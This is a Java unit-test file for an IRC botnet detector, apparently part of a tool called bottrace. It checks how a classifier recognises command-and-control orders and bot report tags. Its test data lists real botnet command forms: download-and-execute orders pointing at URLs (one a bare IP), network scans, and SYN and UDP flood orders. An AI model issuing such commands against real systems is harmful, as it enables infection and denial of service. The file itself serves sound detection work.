package org.bottrace.detect.irc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What counts as a C&C command and a bot report, on the families' own forms and on people's and channel bots' lines. */
class BotCommandsTest {
  @ParameterizedTest(name = "{0} {1}")
  @CsvSource(delimiter = ';', nullValues = "-", value = {
      // words (as the Zeek package logs them); url; command word; order; family
      ".download c:\\x.exe; http://dl.example/x.exe; .download; true; rbot",
      ".advscan dcom135 20; -; .advscan; true; rbot",
      "!scan 445; -; !scan; false; rbot",
      "!scan 445 10.0.0.1; -; !scan; true; rbot",
      "!get; http://47.94.117.203/u.exe; !get; true; rbot",
      ".sysinfo; -; .sysinfo; false; rbot",
      ".ddos.syn 10.0.0.9 80; -; .ddos.syn; true; agobot",
      "!* TSUNAMI 10.0.0.9; -; !* TSUNAMI; true; kaiten",
      "!bot @udpflood 10.0.0.9; -; @udpflood; true; shellbot",
      "@portscan 10.0.0.9; -; @portscan; true; shellbot"})
  void command_familiesForms(String words, String url, String word, boolean strong, String family) {
    assertEquals(new BotCommands.Command(word, strong, family), BotCommands.command(words, url));
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = ';', nullValues = "-", value = {
      // channel service bots' and people's lines: no command
      "!seen dirkjan; -", "!8ball will it; -", "!help; -", "!status; -", "!info; -", "!google zeek irc; -",
      "!op; -", "lol; -", "see; http://example.org/a.exe", "?; -", "-; -"})
  void command_notOnPeopleAndChannelBots(String words, String url) {
    assertNull(BotCommands.command(words, url));
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = ';', nullValues = "-", value = {
      "[MAIN]:; [MAIN]", "[DOWNLOAD]:; [DOWNLOAD]", "<SCAN>; [SCAN]", "-[SYSINFO]-:; [SYSINFO]", "[ddos]; [DDOS]",
      // tags people and other programs use
      "STATUS:; -", "[OT]; -", "[WIP]; -", "<bob>; -", "-; -"})
  void report_familyTagsOnly(String tag, String report) {
    assertEquals(report, BotCommands.report(tag));
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = ';', nullValues = "-", value = {
      // a raw line (EVE ftp replies); its words, tag, URL
      "\u0002[DOWNLOAD]\u0002: Downloading URL: http://a.example/x.exe to: c:\\x.exe.; -; [DOWNLOAD]:; http://a.example/x.exe",
      ".download http://a.example/x.exe c:\\x.exe 1; .download c:\\x.exe; -; http://a.example/x.exe",
      "anyone tried the new kernel?; -; -; -"})
  void facts_ofARawLine(String text, String words, String tag, String url) {
    assertEquals(new BotCommands.Facts(words, tag, url), BotCommands.facts(text));
  }

  /**
   * bottrace's Suricata rules carry their own copy of the command words and report tags (a rule cannot
   * call Java): every word they match is one this classifier knows, so the two sensors never disagree
   * on what a command is.
   */
  @org.junit.jupiter.api.Test
  void suricataRules_matchOnlyWordsTheClassifierKnows() throws Exception {
    String rules = java.nio.file.Files.readString(java.nio.file.Path.of("suricata-rules/bottrace-irc.rules"));
    java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\)\\(((?:[a-z0-9?]+\\|)+[a-z0-9?]+)\\)\\\\b").matcher(rules);
    int lists = 0;
    while (m.find()) {
      lists++;
      for (String w : m.group(1).split("\\|")) {
        String word = w.replace("s?", "s").replace("?", "");
        org.junit.jupiter.api.Assertions.assertTrue(BotCommands.knownWord(word), "rule word " + w);
      }
    }
    org.junit.jupiter.api.Assertions.assertTrue(lists >= 5, "command word lists found in the rules: " + lists);
    java.util.regex.Matcher t = java.util.regex.Pattern.compile("\\[\\\\\\[<\\{\\(\\]\\(((?:[A-Za-z0-9]+\\|)+[A-Za-z0-9]+)\\)").matcher(rules);
    assertTrue(t.find(), "the report rule's tags");
    for (String w : t.group(1).split("\\|")) {
      org.junit.jupiter.api.Assertions.assertTrue(BotCommands.knownReport(w), "report tag " + w);
    }
  }

  /** Line text is attacker-controlled: odd and huge lines give bounded facts and never an exception. */
  @org.junit.jupiter.api.Test
  void facts_hostileLines_boundedAndQuiet() {
    String huge = "!" + "a".repeat(100_000) + " " + "1 ".repeat(10_000) + "http://" + "x".repeat(5000);
    BotCommands.Facts f = BotCommands.facts(huge);
    assertTrue(f.words().length() <= 64, f.words().length() + "");
    assertNull(BotCommands.command(f.words(), f.url()));
    for (String odd : new String[] {"!", ".", "@", "$", "", " ", "\u0003\u0003\u0003", "\u0001ACTION",
        "!* ", "!bot @", "[", "[]", "[MAIN", "\u00ff\u00fe!download", "!download\u0000http://x/a.exe"}) {
      BotCommands.Facts x = BotCommands.facts(odd);
      BotCommands.command(x.words(), x.url());
      BotCommands.report(x.tag());
    }
    assertNull(BotCommands.report("[" + "M".repeat(10_000) + "]"));
  }

  @org.junit.jupiter.api.Test
  void facts_mircColoursAtTheStartAreTakenOut() {
    // (not in the CSV above: JUnit's CSV reader trims control characters at the ends of a value)
    assertEquals(new BotCommands.Facts("!scan 445", null, null), BotCommands.facts("\u000304!scan 445"));
    assertEquals(new BotCommands.Facts(null, "[MAIN]:", null), BotCommands.facts("\u0002[MAIN]:\u0002 ready"));
  }
}
